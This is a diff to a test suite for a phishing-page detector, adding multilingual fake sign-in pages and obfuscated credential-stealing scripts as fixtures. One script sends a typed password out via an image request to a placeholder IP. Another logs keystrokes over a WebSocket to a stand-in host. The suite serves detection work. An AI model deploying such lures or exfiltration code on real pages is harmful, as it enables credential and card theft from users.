@@ -47,6 +47,15 @@ suite('a page that poses as a sign-in page', () => {
       `<p>Enter the 24 words of your Secret Recovery Phrase.</p>${form(KIT, '<div></div>')}`,
       'for(let i=0;i<24;i++)document.forms[0].append(document.createElement("input"))',
     ),
+    'a full mailbox, in Spanish': page('Correo', `<p>Su buzón está al 98 % de su capacidad.</p>${form(KIT)}`),
+    'a fee for a parcel, in German': page(
+      'Paket',
+      `<p>Ihre Sendung wird zurückgehalten.</p>${form(KIT, '<input placeholder="Kartennummer"><input placeholder="CVV">')}`,
+    ),
+    'a card that was stopped, in Japanese': page(
+      '重要',
+      `<p>カードのご利用を一時的に停止しております。</p>${form(KIT)}`,
+    ),
     'a field for each word of a wallet': wallet(`<p>Secret Recovery Phrase</p>${words(WORDS_MIN)}`),
   }
   for (const [name, content] of Object.entries(pages)) test(name, () => assert.equal(found(content), 'FalseLogin'))
@@ -67,6 +76,22 @@ suite('a page that sends a password by', () => {
         'Mail',
         '<form id="f"><input type="password"></form>',
         `document.getElementById("f").action=atob("${btoa(KIT)}")`,
+      ),
+    ],
+    'a picture, from text that can be edited': [
+      'FalseLogin',
+      page(
+        'Webmail',
+        '<p>Mailbox 98% full.</p><table><tr><td>Password<td><div contenteditable id=b></div></table>',
+        `z.onclick=function(){(new Image)["s"+"rc"]="//203.0.113.66/px.gif?c="+btoa(b.innerText)}`,
+      ),
+    ],
+    'a socket, from a field that is drawn': [
+      'Phishing',
+      page(
+        'Documents',
+        '<canvas id="v"></canvas>',
+        `const x=v.getContext("2d");x.fillText("Password",44,200);const w=new WebSocket(atob("${btoa('wss://kit.example/s')}"));addEventListener("keydown",e=>w.send(e.key))`,
       ),
     ],
     'a service for forms': ['Phishing', page('Mail', form('https://api.web3forms.com/submit'))],
@@ -121,6 +146,10 @@ suite('a harmless page', () => {
     'about the words of wallets': [
       undefined,
       page('Help', `<p>Never enter your recovery phrase.</p>${form(KIT, '<input name="q">')}`),
+    ],
+    'with a game that is drawn and asks for a password': [
+      undefined,
+      page('Game', '<canvas id="v"></canvas>', 'v.getContext("2d").fillText("Password",1,1);onkeydown=e=>check(e.key)'),
     ],
     'with a crossword': [undefined, page('Game', form(KIT, words(WORDS_MIN)))],
     'with fewer words than a wallet has': [undefined, wallet(`<p>Secret Recovery Phrase</p>${words(WORDS_MIN - 1)}`)],
